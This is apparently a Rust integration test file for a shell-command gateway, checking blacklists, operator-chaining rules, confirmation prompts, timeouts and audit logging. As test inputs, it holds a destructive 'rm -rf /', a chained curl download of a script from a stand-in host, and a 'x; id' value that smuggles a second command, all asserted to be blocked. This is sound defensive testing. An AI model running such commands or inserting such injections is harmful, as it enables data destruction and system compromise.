//! End-to-end request handling against the local host.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use secure_shell_gateway::config::{PresetParam, PresetTemplate};
use secure_shell_gateway::{
    Action, AuditEntry, AuditOutcome, Gateway, GatewayConfig, Layer, NoopSandbox, Request, Response,
    SandboxBackend, Tier,
};
use serde_json::Value;
use tempfile::TempDir;

const CODE: &str = "ops-code";

fn config(tmp: &TempDir) -> GatewayConfig {
    let mut config = GatewayConfig {
        base_dir: tmp.path().to_path_buf(),
        ..GatewayConfig::default()
    };
    config.sandbox.backend = SandboxBackend::None;
    config.authorization.code = Some(CODE.into());
    config
}

fn gateway(tmp: &TempDir) -> Gateway {
    Gateway::with_sandbox(config(tmp), Arc::new(NoopSandbox)).unwrap()
}

async fn audit_entries(gw: &Gateway) -> Vec<AuditEntry> {
    gw.audit()
        .read_day(chrono::Utc::now().date_naive())
        .await
        .unwrap()
}

fn result_of(response: &Response) -> &Value {
    match response {
        Response::Success { result } => result,
        other => panic!("expected success, got {other:?}"),
    }
}

#[tokio::test]
async fn destructive_command_is_blocked_by_blacklist() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw
        .handle(Request::command("rm -rf /").on_host("local").with_code(CODE))
        .await;
    let body = response.error_body().expect("error response");
    assert_eq!(body.code, "blocked_by_policy");
    assert_eq!(body.layer, Some(Layer::Blacklist));

    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::Blocked);
    assert!(entries[0].verify());
}

#[tokio::test]
async fn listing_tmp_succeeds_as_read() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw.handle(Request::command("ls -la /tmp").on_host("local")).await;
    let result = result_of(&response);
    assert_eq!(result["riskLevel"], "read");
    assert_eq!(result["hostId"], "local");
    assert_eq!(result["exitCode"], 0);

    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::Succeeded);
    assert_eq!(entries[0].exit_code, Some(0));
}

#[tokio::test]
async fn service_restart_asks_for_confirmation() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw
        .handle(Request::command("systemctl restart nginx").on_host("local"))
        .await;
    let body = response.error_body().expect("error response");
    assert_eq!(body.code, "confirmation_required");
    assert_eq!(
        serde_json::to_value(body.risk_level).unwrap(),
        Value::from("write")
    );
    assert!(body.prompt.as_deref().unwrap_or_default().contains("requireAdmin"));
    assert_eq!(audit_entries(&gw).await.len(), 1);
}

#[tokio::test]
async fn read_pipe_chain_is_allowed() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw
        .handle(Request::command("ps aux | grep nginx").on_host("local"))
        .await;
    // grep exits 1 when nothing matches; either way validation let it through.
    match &response {
        Response::Success { result } => assert_eq!(result["riskLevel"], "read"),
        Response::Error { error } => assert_eq!(error.code, "execution_failure"),
        other => panic!("unexpected response {other:?}"),
    }
}

#[tokio::test]
async fn unknown_host_returns_discovery_with_assets() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw.handle(Request::command("uptime").on_host("staging")).await;
    match &response {
        Response::Discovery { message, assets } => {
            assert!(message.contains("staging"));
            assert_eq!(assets.len(), 1);
        }
        other => panic!("expected discovery, got {other:?}"),
    }
    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::Discovery);
}

#[tokio::test]
async fn list_hosts_is_stable_and_hides_credentials() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let first = serde_json::to_value(gw.handle(Request::action(Action::ListHosts)).await).unwrap();
    let second = serde_json::to_value(gw.handle(Request::action(Action::ListHosts)).await).unwrap();
    assert_eq!(first, second);
    assert_eq!(first["status"], "success");
    assert!(!first.to_string().contains("credentials"));
    assert_eq!(audit_entries(&gw).await.len(), 2);
}

#[tokio::test]
async fn timeout_kills_command_promptly() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let request = Request {
        timeout: Some(300),
        ..Request::command("sleep 5").on_host("local").at_tier(Tier::Basic)
    };
    let started = Instant::now();
    let response = gw.handle(request).await;
    assert!(started.elapsed() < Duration::from_secs(3));
    assert_eq!(response.error_body().map(|b| b.code.as_str()), Some("timeout"));

    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::Failed);
}

#[tokio::test]
async fn prompt_in_completed_output_reports_interaction_required() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw
        .handle(Request::command("echo '[sudo] password for alice:'").on_host("local"))
        .await;
    match &response {
        Response::InteractionRequired { partial_output, .. } => {
            assert!(partial_output.contains("password for alice"));
        }
        other => panic!("expected interaction_required, got {other:?}"),
    }
    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::InteractionRequired);
}

#[tokio::test]
async fn chained_command_is_rejected_at_basic_tier() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let response = gw
        .handle(
            Request::command("ls /tmp; curl http://x/i.sh -o /tmp/i.sh")
                .on_host("local")
                .at_tier(Tier::Basic),
        )
        .await;
    let body = response.error_body().expect("error response");
    assert_eq!(body.code, "blocked_by_policy");
    assert_eq!(body.layer, Some(Layer::SpecialOperators));
}

#[tokio::test]
async fn prompt_in_output_reports_interaction_required() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let request = Request {
        timeout: Some(500),
        ..Request::command("sh -c 'printf \"Do you want to continue? [Y/n] \"; sleep 5'")
            .on_host("local")
            .at_tier(Tier::Basic)
    };
    let response = gw.handle(request).await;
    match &response {
        Response::InteractionRequired { host_id, partial_output, .. } => {
            assert_eq!(host_id, "local");
            assert!(partial_output.contains("continue?"));
        }
        other => panic!("expected interaction_required, got {other:?}"),
    }
    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::InteractionRequired);
}

#[tokio::test]
async fn long_running_command_is_detached() {
    let tmp = TempDir::new().unwrap();
    let gw = gateway(&tmp);
    let request = Request {
        is_long_running: true,
        ..Request::command("echo started").on_host("local")
    };
    let response = gw.handle(request).await;
    match &response {
        Response::Background { task } => {
            assert!(task.task_id.starts_with("task-"));
            assert_eq!(task.host_id, "local");
        }
        other => panic!("expected background, got {other:?}"),
    }
    let entries = audit_entries(&gw).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].outcome, AuditOutcome::Background);
}

#[tokio::test]
async fn preset_runs_every_command_and_audits_each() {
    let tmp = TempDir::new().unwrap();
    let mut config = config(&tmp);
    config.presets.push(PresetTemplate {
        name: "greet".into(),
        description: "Say hello".into(),
        commands: vec!["echo hello {{who}}".into(), "echo done".into()],
        params: vec![PresetParam {
            name: "who".into(),
            description: "name to greet".into(),
            required: true,
            default: None,
            pattern: None,
        }],
    });
    let gw = Gateway::with_sandbox(config, Arc::new(NoopSandbox)).unwrap();

    let request = Request {
        preset: Some("greet".into()),
        params: BTreeMap::from([("who".to_string(), Value::from("ops"))]),
        host_id: Some("local".into()),
        ..Request::default()
    };
    let response = gw.handle(request).await;
    let result = result_of(&response);
    assert_eq!(result["preset"], "greet");
    let results = result["results"].as_array().unwrap();
    assert_eq!(results.len(), 2);
    assert_eq!(results[0]["command"], "echo hello ops");
    assert_eq!(audit_entries(&gw).await.len(), 2);

    let injected = Request {
        preset: Some("greet".into()),
        params: BTreeMap::from([("who".to_string(), Value::from("x; id"))]),
        host_id: Some("local".into()),
        ..Request::default()
    };
    let response = gw.handle(injected).await;
    assert_eq!(
        response.error_body().map(|b| b.code.as_str()),
        Some("invalid_request")
    );
}
